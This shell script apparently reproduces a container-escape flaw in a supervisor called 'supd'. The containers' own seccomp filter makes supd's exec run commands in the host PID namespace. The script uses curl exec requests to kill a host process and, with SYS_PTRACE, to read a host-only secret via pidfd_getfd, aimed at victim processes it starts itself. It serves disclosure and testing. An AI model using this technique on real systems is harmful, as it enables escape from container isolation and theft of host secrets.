#!/bin/sh
# Reproduction: a container's own seccomp filter (SECCOMP_RET_ERRNO|0 on supd's clone
# flags) makes supd's exec run the command in the HOST pid namespace.
# Usage: run.sh SUPD_BASE_URL ADMIN_TOKEN   (supd already running with the token)
# Builds the image, starts two labelled containers (default caps; --cap-add SYS_PTRACE),
# runs two execs through supd, removes the containers.
set -eu
B=${1:?base url, e.g. http://127.0.0.1:4646}; T=${2:?admin token}
D=$(cd "$(dirname "$0")" && pwd); W=$(mktemp -d)
cc -static -O2 -o "$W/init" "$D/init.c"; cc -static -O2 -o "$W/probe" "$D/probe.c"
cc -static -O2 -o "$W/steal" "$D/steal.c"; cp "$D/Dockerfile" "$W/"
docker build -q -t supd-attack2-clone-errno:latest "$W" >/dev/null
L="--label supd.attack=1 --label io.supd.service=web --label io.supd.instance=1 --label io.supd.container=web"
docker run -d --name a2-clone-errno-1 $L --label io.supd.application=evil supd-attack2-clone-errno:latest >/dev/null
docker run -d --name a2-clone-errno-2 $L --label io.supd.application=evil2 --cap-add SYS_PTRACE supd-attack2-clone-errno:latest >/dev/null
sleep 3
# 1. default container: the command sees host pids and signals a host process.
sleep 300 & V=$!
echo "host victim pid $V"
curl -s -m 20 -H "Authorization: Bearer $T" -d "{\"cmd\": \"/probe $V\"}" "$B/v1/state/applications/evil/service-instances/web-1/containers/web/exec"; echo
sleep 0.3; if kill -0 $V 2>/dev/null; then echo "victim alive (not reproduced)"; kill $V; else echo "REPRODUCED: host process $V was killed from the container"; fi
# 2. --cap-add SYS_PTRACE: pidfd_getfd on a host process, reading a host-only file.
echo "host-only secret $$" > "$W/secret"; chmod 600 "$W/secret"
sh -c "exec 7<'$W/secret'; exec sleep 60" & V=$!; sleep 0.3
curl -s -m 20 -H "Authorization: Bearer $T" -d "{\"cmd\": \"/steal $V 7\"}" "$B/v1/state/applications/evil2/service-instances/web-1/containers/web/exec"; echo
kill $V 2>/dev/null || true
docker rm -f a2-clone-errno-1 a2-clone-errno-2 >/dev/null; rm -rf "$W"
